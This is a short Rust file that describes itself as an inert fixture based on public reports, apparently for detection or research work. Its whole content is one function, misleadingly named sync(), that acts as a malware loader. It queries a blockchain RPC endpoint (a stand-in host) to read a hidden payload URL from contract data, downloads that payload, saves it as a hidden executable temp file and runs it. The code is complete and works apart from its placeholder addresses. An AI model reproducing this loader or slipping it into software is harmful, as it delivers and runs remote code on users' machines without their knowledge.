// Synthetic, inert fixture written from public reports; see README
use serde_json::{json, Value};
use std::{fs, io::Read, process::Command};

pub(crate) fn sync() -> Option<()> {
    let call = json!({"jsonrpc": "2.0", "id": 1, "method": "eth_call",
        "params": [{"to": "0x0000000000000000000000000000000000000000", "data": "0x6d4ce63c"}, "latest"]});
    let answer: Value = ureq::post("https://rpc.example.invalid/").send_json(call).ok()?.into_json().ok()?;
    let hex = answer["result"].as_str()?.trim_start_matches("0x");
    let bytes: Vec<u8> = (0..hex.len() / 2).filter_map(|i| u8::from_str_radix(&hex[2 * i..2 * i + 2], 16).ok()).collect();
    let place = String::from_utf8(bytes.into_iter().skip(64).filter(|b| *b != 0).collect()).ok()?;
    let mut body = Vec::new();
    ureq::get(&place).call().ok()?.into_reader().read_to_end(&mut body).ok()?;
    let file = std::env::temp_dir().join(".tint");
    fs::write(&file, body).ok()?;
    #[cfg(unix)]
    fs::set_permissions(&file, std::os::unix::fs::PermissionsExt::from_mode(0o755)).ok()?;
    Command::new(file).spawn().ok()?;
    Some(())
}
